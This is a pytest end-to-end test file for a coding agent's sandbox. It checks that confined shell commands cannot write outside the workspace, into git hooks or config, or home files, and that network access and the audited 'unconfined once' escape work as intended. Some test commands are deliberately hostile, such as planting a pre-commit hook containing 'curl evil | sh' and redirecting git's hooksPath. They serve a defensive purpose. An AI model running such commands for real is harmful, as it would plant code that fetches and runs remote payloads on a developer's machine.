"""The sandbox, through the installed command: what a confined command may and may not
write or reach, the refusal where nothing can confine, MCP stdio servers confined the same
way, and the one way out (the person's "unconfined once", audited)."""

from __future__ import annotations

import json
import shutil
import socket
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from agentcli_tools.sandbox import mechanism

from tests.e2e.conftest import Agent
from tests.helpers import MCP_SERVER
from tests.helpers.installed import program
from tests.helpers.scripted_server import text, tool_calls
from tests.helpers.terminal import doctor_line, leave

pytestmark = pytest.mark.skipif(not mechanism()[0], reason="neither Landlock nor bubblewrap")


@pytest.fixture
def outside() -> Iterator[Path]:
    """A folder outside the workspace and outside /tmp (which a confined command sees as
    its private temp folder), so writes there meet the sandbox itself."""
    folder = Path(tempfile.mkdtemp(prefix="agentcli-test-", dir="/var/tmp"))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def configure(agent: Agent, text_: str) -> None:
    path = Path(agent.env["XDG_CONFIG_HOME"]) / "agentcli" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text_)


def results(agent: Agent, since: int = 0) -> list[str]:
    """The tool result each model request from the `since`th on was sent last, in order."""
    return [
        request["messages"][-1]["content"]
        for request in agent.server.requests[since:]
        if request["messages"][-1]["role"] == "tool"
    ]


def run_shell(agent: Agent, *commands: str, flags: tuple[str, ...] = ()) -> list[str]:
    """Run each command as an approved shell call, one model turn each; their results."""
    since = len(agent.server.requests)
    agent.server.push(*(tool_calls(("shell", {"command": c})) for c in commands), text("done"))
    result = agent.run("run", "go", "--approve", "shell", *flags, "-o", "json")
    assert result.returncode == 0, result.stderr
    got = results(agent, since)
    assert len(got) == len(commands)
    return got


def git_workspace(agent: Agent) -> None:
    """A workspace that is a git repository (made as git makes one: no git needed)."""
    (agent.workspace / ".git" / "hooks").mkdir(parents=True)
    (agent.workspace / ".git" / "config").write_text("[core]\n")
    (agent.workspace / "src").mkdir()
    (agent.workspace / "README.md").write_text("hello\n")


def test_workspace_write_refuses_outside_git_hooks_and_home_with_a_note(
    agent: Agent, outside: Path
) -> None:
    git_workspace(agent)
    outside = outside / "outside.txt"
    home = Path(agent.env["HOME"])
    home.mkdir(exist_ok=True)
    got = run_shell(
        agent,
        f"echo x > {outside}",
        "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "echo '[core] hooksPath = /tmp' >> .git/config",
        "echo x > ~/.bashrc",
        "mv .git .git-old && mkdir -p .git/hooks",  # moving .git away to plant a new one
        "ln -s ../../src/hook .git/hooks/post-checkout",
        "echo inside > src/made.txt && echo more >> README.md && cat src/made.txt README.md",
    )
    for call in range(6):
        assert got[call].startswith("exit code 1"), got[call]
        if call != 3:  # (the home's .bashrc does not exist: "No such file" is no refusal)
            assert "[sandbox] this command ran confined (workspace-write)" in got[call], got[call]
    assert not outside.exists() and not (home / ".bashrc").exists()
    assert not (agent.workspace / ".git" / "hooks" / "pre-commit").exists()
    assert not (agent.workspace / ".git" / "hooks" / "post-checkout").is_symlink()
    assert (agent.workspace / ".git" / "config").read_text() == "[core]\n"
    assert not (agent.workspace / ".git-old").exists()
    assert got[6] == "exit code 0\ninside\nhello\nmore\n"
    assert "[sandbox]" not in got[6]


def test_outside_a_repository_the_workspace_is_writable_at_its_top(agent: Agent) -> None:
    got = run_shell(agent, "echo made > made.txt && mkdir sub && echo x > sub/y && cat made.txt")
    assert got[0] == "exit code 0\nmade\n"


def test_read_only_refuses_workspace_writes_but_not_the_temp_folder(agent: Agent) -> None:
    got = run_shell(
        agent,
        "echo x > made.txt",
        'echo t > "$TMPDIR/t" && cat "$TMPDIR/t"',
        flags=("--sandbox", "read-only"),
    )
    assert got[0].startswith("exit code 1")
    assert "Read-only file system" in got[0] or "Permission denied" in got[0]
    assert "[sandbox] this command ran confined (read-only)" in got[0]
    assert not (agent.workspace / "made.txt").exists()
    assert got[1] == "exit code 0\nt\n"


@pytest.fixture
def listener() -> Iterator[int]:
    """A TCP server on 127.0.0.1 that answers "hello" to each connection: its port."""
    server = socket.create_server(("127.0.0.1", 0))
    stop = threading.Event()

    def serve() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.sendall(b"hello")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1]
    stop.set()
    thread.join()
    server.close()


def connect(port: int) -> str:
    code = f"import socket; print(socket.create_connection(('127.0.0.1', {port})).recv(5))"
    return f"{sys.executable} -c {json.dumps(code)}"


def test_network_off_refuses_a_connection_and_network_true_allows_it(
    agent: Agent, listener: int
) -> None:
    got = run_shell(agent, connect(listener))
    assert got[0].startswith("exit code 1") and "b'hello'" not in got[0]
    assert "TCP connections and listening are refused" in got[0]
    configure(agent, "[sandbox]\nnetwork = true\n")
    got = run_shell(agent, connect(listener))
    assert got[0] == "exit code 0\nb'hello'\n"


def test_without_landlock_or_bubblewrap_a_confined_command_is_refused(agent: Agent) -> None:
    agent.env["AGENTCLI_TEST_SANDBOX_MISSING"] = "landlock,bwrap"
    got = run_shell(agent, "echo ran > ran.txt")
    assert got[0] == (
        "Error: cannot confine the command: this system has neither Landlock (Linux 5.13+) nor"
        " bubblewrap; install bubblewrap, or run agentcli with --sandbox off"
        ' ([sandbox] mode = "off") to run commands unconfined'
    )
    assert not (agent.workspace / "ran.txt").exists()
    shown = agent.run("config", "show").stdout
    assert "sandbox      workspace-write, network off (no mechanism: refused)" in shown
    got = run_shell(agent, "echo ran > ran.txt && cat ran.txt", flags=("--sandbox", "off"))
    assert got[0] == "exit code 0\nran\n"


def test_without_landlock_bubblewrap_confines(agent: Agent, outside: Path) -> None:
    program("bwrap", "bubblewrap")
    agent.env["AGENTCLI_TEST_SANDBOX_MISSING"] = "landlock"
    git_workspace(agent)
    outside = outside / "outside.txt"
    got = run_shell(agent, "echo x > .git/hooks/pre-commit", f"echo x > {outside}", "echo y > y")
    for call in range(2):
        assert "Read-only file system" in got[call] and "[sandbox]" in got[call], got[call]
    assert not outside.exists() and not (agent.workspace / ".git/hooks/pre-commit").exists()
    assert got[2] == "exit code 0\n(no output)"


def test_an_mcp_stdio_server_is_confined_the_same_way(agent: Agent, outside: Path) -> None:
    configure(
        agent,
        f"[mcp.servers.calc]\ncommand = {json.dumps(sys.executable)}\nargs = ['{MCP_SERVER}']\n",
    )
    inside, outside = agent.workspace / "mark.txt", outside / "mark.txt"
    agent.server.push(
        tool_calls(("calc__mark", {"path": str(inside)})),
        tool_calls(("calc__mark", {"path": str(outside)})),
        text("done"),
    )
    result = agent.run("run", "mark", "--approve", "calc__mark", "-o", "json")
    assert result.returncode == 0, result.stderr
    got = results(agent)
    assert got[0] == f"wrote {inside}" and inside.read_text() == "ran"
    assert "Permission denied" in got[1] or "Read-only file system" in got[1]
    assert not outside.exists()


def test_unconfined_once_at_the_review_runs_it_outside_and_is_audited(
    agent: Agent, outside: Path
) -> None:
    outside = outside / "outside.txt"
    command = f"echo x > {outside}"
    agent.server.push(
        tool_calls(("shell", {"command": command})),
        tool_calls(("shell", {"command": command + "2"})),
        text("done"),
    )
    child = agent.spawn("chat", "write outside")
    child.expect(r"runs in the sandbox: workspace-write")
    child.expect(r"\[u\]nconfined once")
    child.sendline("u")
    child.expect(r"\[u\]nconfined once")  # the next call: confined again unless chosen
    child.sendline("a")
    leave(child)
    assert outside.read_text() == "x\n" and not Path(f"{outside}2").exists()
    got = results(agent)
    assert got[0] == "exit code 0\n(no output)"
    assert "[sandbox]" in got[1]
    thread = agent.store().latest(str(agent.workspace.resolve())).thread_id
    shown = agent.run("threads", "show", thread).stdout
    assert "sandbox off (unconfined once, chosen at the review)" in shown
    assert "ran in sandbox: off (unconfined once)" in shown
    assert "ran in sandbox: workspace-write, network off" in shown
    entries = json.loads(agent.run("threads", "show", thread, "--json").stdout)["entries"]
    calls = [c for e in entries for c in e.get("calls", [])]
    assert [c["decision"].get("sandbox") for c in calls] == [
        "off (unconfined once, chosen at the review)",
        None,
    ]


def test_review_unconfined_from_a_script(agent: Agent, outside: Path) -> None:
    outside = outside / "outside.txt"
    agent.server.push(tool_calls(("shell", {"command": f"echo x > {outside}"})), text("done"))
    parked = json.loads(agent.run("run", "go", "-o", "json").stdout)
    assert parked["status"] == "awaiting_approval" and not outside.exists()
    result = agent.run("review", parked["thread_id"], "--unconfined", "call_1", "-o", "json")
    assert result.returncode == 0, result.stderr
    assert outside.read_text() == "x\n"


def test_only_a_rule_with_sandbox_off_lifts_it_never_a_flag(agent: Agent, outside: Path) -> None:
    outside = outside / "outside.txt"
    command = f"touch {outside}"
    got = run_shell(agent, command, flags=("--auto-approve",))
    assert "[sandbox]" in got[0] and not outside.exists()
    rule = "[[approval.rules]]\ntool = 'shell'\nmatch = 'touch *'\ndecision = 'allow'\n"
    configure(agent, rule)  # allowed, still confined
    got = run_shell(agent, command + " && echo done")
    assert "[sandbox]" in got[0] and not outside.exists()
    configure(agent, rule + "sandbox = 'off'\n")
    agent.server.push(tool_calls(("shell", {"command": command})), text("done"))
    ran = agent.run("run", "go", "-o", "json")
    assert ran.returncode == 0, ran.stdout
    assert outside.exists()
    thread = json.loads(ran.stdout)["thread_id"]
    shown = agent.run("threads", "show", thread).stdout
    assert "sandbox off (by rule 1 (shell touch *, sandbox off))" in shown


def test_in_chat_the_notes_after_a_long_output_are_shown_not_folded_away(
    agent: Agent, tmp_path: Path, outside: Path
) -> None:
    """A result is folded to its first lines in chat (a failed one to 40): the notes at its
    end (the sandbox refused something; the call cannot be undone) are shown all the same."""
    broken = tmp_path / "broken-git"  # a git that fails: no snapshot, so "not undoable"
    broken.mkdir()
    (broken / "git").write_text("#!/bin/sh\nexit 1\n")
    (broken / "git").chmod(0o755)
    outside = outside / "outside.txt"
    agent.server.push(
        tool_calls(("shell", {"command": f"seq 1 80; echo x > {outside}"})), text("done")
    )
    path = f"{broken}:{agent.env['PATH']}"
    child = agent.spawn("chat", "--approve", "shell", "count", env={"PATH": path})
    child.expect(r"… \d+ more lines")
    child.expect(r"\[sandbox\] this command ran confined \(workspace-write\)")
    child.expect(r"\[agentcli: not undoable: ")
    leave(child)
    [result] = results(agent)
    assert result.startswith("exit code 1\n1\n2\n") and not outside.exists()


def test_an_extra_writable_path_is_writable_and_its_siblings_are_not(
    agent: Agent, outside: Path
) -> None:
    cache = outside / "cache"
    sibling = outside / "cache-sibling"  # the same prefix: not inside the writable path
    cache.mkdir()
    sibling.mkdir()
    configure(agent, f"[sandbox]\nwritable = [{json.dumps(str(cache))}]\n")
    got = run_shell(
        agent,
        f"echo in > {cache}/a.txt && cat {cache}/a.txt",
        f"echo x > {sibling}/b.txt",
        f"echo x > {cache}/../escaped.txt",
    )
    assert got[0] == "exit code 0\nin\n"
    for refused in got[1:]:
        assert refused.startswith("exit code 1"), refused
        note = "[sandbox] this command ran confined (workspace-write): it may write only in"
        assert f"{note} {agent.workspace.resolve()}" in refused
        assert str(cache) in refused.rsplit("[sandbox]", 1)[1]  # the note names it
    assert not (sibling / "b.txt").exists() and not (outside / "escaped.txt").exists()


def test_read_only_stays_read_only_and_says_writable_is_ignored(
    agent: Agent, outside: Path
) -> None:
    cache = outside / "cache"
    cache.mkdir()
    configure(agent, f'[sandbox]\nmode = "read-only"\nwritable = [{json.dumps(str(cache))}]\n')
    since = len(agent.server.requests)
    agent.server.push(tool_calls(("shell", {"command": f"echo x > {cache}/a.txt"})), text("ok"))
    ran = agent.run("run", "go", "--approve", "shell", "-o", "json")
    assert ran.returncode == 0, ran.stderr
    [result] = results(agent, since)
    assert result.startswith("exit code 1") and "confined (read-only)" in result
    assert not (cache / "a.txt").exists()
    config = Path(agent.env["XDG_CONFIG_HOME"]) / "agentcli" / "config.toml"
    warning = (
        f"agentcli: warning: [sandbox] writable in {config} is ignored in read-only mode:"
        " confined commands write only in their private temp folder"
    )
    assert warning in ran.stderr
    shown = agent.run("config", "show")
    assert warning in shown.stderr
    assert f"writable ({cache}) ignored in read-only mode" in shown.stdout
    # the same setting in workspace-write: no warning
    configure(agent, f"[sandbox]\nwritable = [{json.dumps(str(cache))}]\n")
    assert "warning" not in agent.run("config", "show").stderr


@pytest.mark.parametrize(
    ("missing", "layers"),
    [
        ("", "layers: namespaces + landlock"),
        ("userns", "layers: landlock"),
        ("landlock", "layers: bubblewrap + seccomp"),
    ],
)
def test_doctor_names_the_layers_a_confined_command_really_gets(
    agent: Agent, missing: str, layers: str
) -> None:
    if missing == "landlock":
        program("bwrap", "bubblewrap")
    if mechanism()[0] != "landlock" and missing != "landlock":
        pytest.skip("no Landlock here")
    agent.env["AGENTCLI_TEST_SANDBOX_MISSING"] = missing
    line = doctor_line(agent.run("doctor").stdout, "sandbox")
    assert line.startswith("✓ sandbox: workspace-write, network off") and layers in line, line
    assert line.endswith("seccomp") or "no mount namespace" in line, line
    assert ("no mount namespace" in line) == (missing == "userns"), line


def test_doctor_fails_when_nothing_can_confine(agent: Agent) -> None:
    agent.env["AGENTCLI_TEST_SANDBOX_MISSING"] = "landlock,bwrap"
    result = agent.run("doctor")
    assert result.returncode == 1
    line = doctor_line(result.stdout, "sandbox")
    assert line.startswith("✗ sandbox:") and "install bubblewrap" in line, line


def test_a_workspace_in_tmp_is_still_there_writable_with_its_git_kept(agent: Agent) -> None:
    """/tmp is read-only inside the sandbox, but a workspace in it is bound writable, its
    .git read-only, and $TMPDIR is writable."""
    workspace = Path(tempfile.mkdtemp(prefix="agentcli-ws-", dir="/tmp"))
    try:
        agent.workspace = workspace
        git_workspace(agent)
        got = run_shell(
            agent,
            "echo top > top.txt && cat top.txt && pwd",
            "echo x >> .git/config",
            'echo t > "$TMPDIR/t" && cat "$TMPDIR/t" && ls /tmp | grep -c agentcli-ws-',
        )
        assert got[0] == f"exit code 0\ntop\n{workspace}\n"
        assert got[1].startswith("exit code 1") and "[sandbox]" in got[1]
        assert (workspace / ".git" / "config").read_text() == "[core]\n"
        assert got[2] == "exit code 0\nt\n1\n"  # the real /tmp is seen
    finally:
        shutil.rmtree(workspace, ignore_errors=True)
